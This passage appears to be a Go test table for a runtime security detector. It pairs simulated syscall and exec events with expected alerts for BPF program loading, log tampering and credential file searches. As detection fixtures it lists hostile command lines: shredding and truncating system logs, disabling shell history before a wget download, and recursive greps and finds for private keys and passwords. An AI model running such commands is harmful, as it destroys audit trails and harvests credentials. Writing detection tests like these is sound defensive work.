		{"container_escape_mount/kubelet mounts a secret volume on a kind node", tp("syscalls/sys_enter_mount", p("/usr/bin/kubelet", "--config=/var/lib/kubelet/config.yaml", inDocker), p("/usr/lib/systemd/systemd", "", inDocker), strArg("tmpfs"), strArg("/var/lib/kubelet/pods/x/volumes/kubernetes.io~projected/kube-api-access-y"), strArg("tmpfs"), sizeArg(0)), nil},
		{"container_escape_mount/mount listing", exec(p("/usr/bin/mount", "", pod, initTree(false)), podShell), nil},

		// bpf_program_load
		{"bpf_program_load/bpftool in a pod (sys_enter_bpf)", tp("syscalls/sys_enter_bpf", p("/usr/sbin/bpftool", "prog load x.o /sys/fs/bpf/x", pod, initTree(false)), podShell, intArg(5), jmap{"uint_arg": 168}),
			[]string{"bpf_program_load"}},
		{"bpf_program_load/unknown loader on the host (__x64_sys_bpf)", kprobe("__x64_sys_bpf", p("/usr/local/bin/loader", ""), hostBash, intArg(5), jmap{"uint_arg": 168}),
			[]string{"bpf_program_load"}},
		{"bpf_program_load/bpf_check", kprobe("bpf_check", p("/usr/local/bin/loader", ""), hostBash, jmap{"bpf_attr_arg": jmap{"ProgType": "BPF_PROG_TYPE_KPROBE", "InsnCnt": 20, "ProgName": "hide"}}),
			[]string{"bpf_program_load"}},
		{"bpf_program_load/cilium-agent", kprobe("__x64_sys_bpf", p("/usr/bin/cilium-agent", "", pod, initTree(true)), shim, intArg(5)), nil},
		{"bpf_program_load/tetragon (captured)", tp("syscalls/sys_enter_bpf", p("/opt/lab/bin/tetragon", "--bpf-lib /opt/lab/src/bpf/objs/", inDocker), hostBash, intArg(5), jmap{"uint_arg": 168}), nil},
		{"bpf_program_load/BPF_MAP_CREATE", tp("syscalls/sys_enter_bpf", p("/usr/local/bin/loader", ""), hostBash, intArg(0), jmap{"uint_arg": 72}), nil},

		// log_tampering
		{"log_tampering/sh truncates /var/log/auth.log", tp("syscalls/sys_enter_openat", p("/bin/sh", "-c '> /var/log/auth.log'"), hostBash, intArg(-100), strArg("/var/log/auth.log"), intArg(0x241)),
			[]string{"log_tampering"}},
		{"log_tampering/rm .bash_history is history, not a log", exec(p("/bin/rm", "-f /root/.bash_history", pod, initTree(false)), podShell),
			[]string{"shell_history_tampering"}},
		{"log_tampering/shred /var/log/syslog", exec(p("/usr/bin/shred", "-u /var/log/syslog"), hostBash),
			[]string{"log_tampering"}},
		{"log_tampering/unlinkat /var/log/secure", tp("syscalls/sys_enter_unlinkat", p("/usr/bin/python3", "clean.py"), hostBash, intArg(-100), strArg("/var/log/secure"), intArg(0)),
			[]string{"log_tampering"}},
		{"log_tampering/history disabled is history, not a log", exec(p("/bin/bash", "-c 'unset HISTFILE; wget -q http://x/y'"), hostBash),
			[]string{"shell_history_tampering"}},
		{"log_tampering/logrotate copytruncate", tp("syscalls/sys_enter_openat", p("/usr/sbin/logrotate", "/etc/logrotate.conf"), p("/usr/sbin/cron", "-f"), intArg(-100), strArg("/var/log/app.log"), intArg(0x241)), nil},
		{"log_tampering/bash saves its history", tp("syscalls/sys_enter_openat", p("/usr/bin/bash", ""), sshd, intArg(-100), strArg("/root/.bash_history"), intArg(0x241)), nil},
		{"log_tampering/kubelet removes a rotated pod log", tp("syscalls/sys_enter_unlinkat", p("/usr/bin/kubelet", ""), p("/usr/lib/systemd/systemd", ""), intArg(-100), strArg("/var/log/pods/ns_pod_uid/app/0.log.20261126-170000"), intArg(0)), nil},
		{"log_tampering/app appends to its log", tp("syscalls/sys_enter_openat", p("/usr/sbin/nginx", ""), hostBash, intArg(-100), strArg("/var/log/nginx/access.log"), intArg(0x441)), nil},
		{"log_tampering/rm of a temp file", exec(p("/bin/rm", "-f /tmp/x"), hostBash), nil},

		// credential_file_search
		{"credential_file_search/grep for private keys", exec(p("/bin/grep", "-rl 'BEGIN RSA PRIVATE KEY' /", pod, initTree(false)), podShell),
			[]string{"credential_file_search"}},
		{"credential_file_search/find id_rsa", exec(p("/usr/bin/find", "/ -name id_rsa -type f"), hostBash),
			[]string{"credential_file_search"}},
		{"credential_file_search/recursive grep for passwords", exec(p("/bin/grep", "-ri password /etc /opt", pod, initTree(false)), podShell),
			[]string{"credential_file_search"}},
		{"credential_file_search/busybox find via /proc/self/exe", exec(p("/proc/self/exe", "/ -name *.pem", inDocker), p("/bin/sh", "", inDocker)),
			[]string{"credential_file_search"}},
		{"credential_file_search/grep -c processor /proc/cpuinfo (captured)", exec(p("/usr/bin/grep", "-c processor /proc/cpuinfo"), hostBash), nil},
		{"credential_file_search/non-recursive grep", exec(p("/usr/bin/grep", "password README.md"), hostBash), nil},
		{"credential_file_search/update-ca-certificates", exec(p("/usr/bin/find", ". -name *.pem -type l"), p("/usr/sbin/update-ca-certificates", "--fresh")), nil},
	}, v2Cases()...)
}
